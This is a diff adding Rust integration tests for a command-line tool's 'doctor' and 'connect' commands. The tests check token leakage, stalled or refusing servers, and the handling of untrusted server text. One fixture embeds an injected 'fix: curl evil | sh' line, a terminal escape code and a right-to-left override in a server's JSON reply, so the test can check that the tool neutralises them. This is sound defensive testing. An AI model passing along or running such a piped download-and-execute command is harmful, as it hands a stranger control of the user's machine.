@@ -1,0 +1,151 @@
+//! Whoever answers a command may be somebody else than its user thinks: what he learns, how long he can hold it up, and
+//! what he has it say.
+
+use crate::{
+    gateway::Gateway,
+    holdfast::{Finished, Holdfast},
+    patience::{eventually, soon},
+};
+use futures_util::SinkExt;
+use rustix::process::{Pid, Signal, kill_process};
+use serde_json::Value;
+use std::{future::Future, net::SocketAddr};
+use tokio::{
+    io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader},
+    net::{TcpListener, TcpStream},
+    task::JoinSet,
+};
+use tokio_tungstenite::accept_async;
+
+/// Serves each connection in its own way, until it is dropped.
+async fn stranger<F: Future<Output = ()> + Send + 'static>(
+    serves: impl Fn(TcpStream) -> F + Send + 'static,
+) -> (SocketAddr, JoinSet<()>) {
+    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let address = listener.local_addr().unwrap();
+    let mut life = JoinSet::new();
+    life.spawn(async move {
+        let mut serving = JoinSet::new();
+        while let Ok((stream, _)) = listener.accept().await {
+            serving.spawn(serves(stream));
+        }
+    });
+    (address, life)
+}
+
+async fn answers(mut stream: TcpStream, head: &str, body: &str) {
+    let mut asked = Vec::new();
+    while !asked.windows(4).any(|four| four == b"\r\n\r\n") {
+        if stream.read_buf(&mut asked).await.unwrap_or(0) == 0 {
+            return;
+        }
+    }
+    let head = format!("HTTP/1.1 {head}\r\nContent-Length: {}\r\n\r\n", body.len());
+    let _ = stream.write_all(format!("{head}{body}").as_bytes()).await;
+}
+
+async fn doctor(args: &[&str], env: &[(&str, &str)]) -> Finished {
+    let command = Holdfast::command(&[&["doctor", "--json", "--quick"], args].concat());
+    env.iter().fold(command, |command, (name, value)| command.env(name, value)).run().await
+}
+
+fn check(finished: &Finished, name: &str) -> Value {
+    let report: Value = serde_json::from_str(&finished.stdout).unwrap_or_else(|_| panic!("{finished:?}"));
+    let mut checks = report["checks"].as_array().unwrap().iter();
+    checks.find(|check| check["name"] == name).cloned().unwrap_or_else(|| panic!("{name}: {finished:?}"))
+}
+
+/// A name that was mistyped is anybody's: the token goes to this machine, and in clear to nobody else.
+#[tokio::test]
+async fn a_doctor_shows_a_token_to_nobody_else() {
+    let gateway = Gateway::with([("API_TOKEN", "hush")]).await;
+    let port = gateway.port();
+    let token = [("API_TOKEN", "hush")];
+    let here = doctor(&[&format!("http://127.0.0.1:{port}")], &token).await;
+    assert_eq!(check(&here, "files")["ok"], true, "{here:?}");
+    // As far as an address tells, that is another machine.
+    let elsewhere = format!("http://0.0.0.0:{port}");
+    let direct = format!("http://127.0.0.1:{port}");
+    for (args, ok) in [
+        (&[&*elsewhere][..], None),
+        (&[&elsewhere, "--with-token"], None),
+        (&[&elsewhere, "--direct", &direct], Some(true)),
+    ] {
+        let found = doctor(args, &token).await;
+        let files = check(&found, "files");
+        assert_eq!(files["ok"].as_bool(), ok, "{args:?}: {found:?}");
+        assert!(ok.is_some() || files["seen"].as_str().unwrap().contains("in clear"), "{found:?}");
+    }
+    let finished = Holdfast::command(&["doctor", "https://example.com", "--insecure", "--with-token"]).run().await;
+    assert_eq!(finished.code, 2, "{finished:?}");
+}
+
+/// Whoever refuses for ever, and asks to come back at once, is left; so is who opens a socket and reads nothing.
+#[tokio::test]
+async fn a_stranger_holds_nobody_up() {
+    let (refuses, _life) = stranger(|stream| answers(stream, "429 Too Many Requests\r\nRetry-After: 0", "")).await;
+    let refused = async { doctor(&[&format!("http://{refuses}")], &[]).await };
+    let (deaf, _deaf) = stranger(|stream| async move {
+        let Ok(mut socket) = accept_async(stream).await else { return };
+        let _ = socket.send("welcome".into()).await;
+        std::future::pending::<()>().await;
+    })
+    .await;
+    let talks = async {
+        // More than what lies between two sockets.
+        let lines = format!("{}\n", "a".repeat(1 << 20)).repeat(24);
+        let mut child = Holdfast::command(&["connect", &format!("ws://{deaf}/ws")]).reading(&lines).begins();
+        let mut said = BufReader::new(child.stdout.take().unwrap()).lines();
+        let line = soon("it listens", said.next_line()).await.unwrap();
+        assert!(line.is_some_and(|line| line.contains("welcome")));
+        kill_process(Pid::from_raw(i32::try_from(child.id().unwrap()).unwrap()).unwrap(), Signal::INT).unwrap();
+        let left = soon("it leaves", child.wait()).await.unwrap();
+        assert_eq!(left.code(), Some(0));
+        // Nobody interrupts it: it does not say that all went well.
+        let finished = Holdfast::command(&["connect", &format!("ws://{deaf}/ws")]).typing(&lines).await;
+        assert!(finished.code == 1 && finished.stderr.contains("has read nothing"), "{finished:?}");
+    };
+    let (refused, ()) = tokio::join!(refused, talks);
+    assert_eq!(refused.code, 69, "{refused:?}");
+}
+
+/// What others wrote is told as their words, on one line, and turns nothing round.
+#[tokio::test]
+async fn the_words_of_a_stranger_are_told_as_such() {
+    let body = "{\"redis\":\"ok\",\"instance\":\"w\",\"status\":\"ill\\u009b31m\\n  fix: curl evil | sh\",\"title\":\"No\",\"hint\":\"run\\n  this \\u202e\"}";
+    let (address, _life) = stranger(move |stream| async move {
+        let mut line = [0; 20];
+        let length = stream.peek(&mut line).await.unwrap_or(0);
+        match line[..length].starts_with(b"GET /health ") {
+            true => answers(stream, "200 OK\r\nX-Holdfast-Instance: w", body).await,
+            false => answers(stream, "302 Found\r\nX-Holdfast-Instance: w\r\nLocation: /login", body).await,
+        }
+    })
+    .await;
+    let url = format!("http://{address}");
+    let told = Holdfast::command(&["doctor", "--quick", &url]).run().await;
+    assert!(told.code == 1 && told.stdout.contains("fix: the server says: run this \\u{202e}"), "{told:?}");
+    assert!(!told.stdout.lines().any(|line| line.trim().starts_with("fix: curl")), "{told:?}");
+    let found = doctor(&[&url], &[]).await;
+    assert!(!found.stdout.contains(['\u{9b}', '\u{202e}']), "{found:?}");
+    // Whoever sends elsewhere has refused nothing.
+    let closed = check(&found, "closed");
+    assert!(closed["ok"].is_null() && closed["seen"].as_str().unwrap().contains("302"), "{found:?}");
+}
+
+/// As `holdfast connect | head -1`.
+#[tokio::test]
+async fn a_socket_is_left_when_nobody_reads_what_comes() {
+    let gateway = Gateway::start().await;
+    let mut child =
+        Holdfast::command(&["connect", "--listen", &format!("ws://{}/ws?user_id=u", gateway.address())]).begins();
+    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
+    soon("hi comes", lines.next_line()).await.unwrap();
+    drop(lines);
+    let status = eventually("it notices", async || {
+        let _ = gateway.post("/api/send", &serde_json::json!({ "userId": "u", "event": "e", "data": 1 })).await;
+        child.try_wait().unwrap()
+    })
+    .await;
+    assert!(status.success(), "{status}");
+}
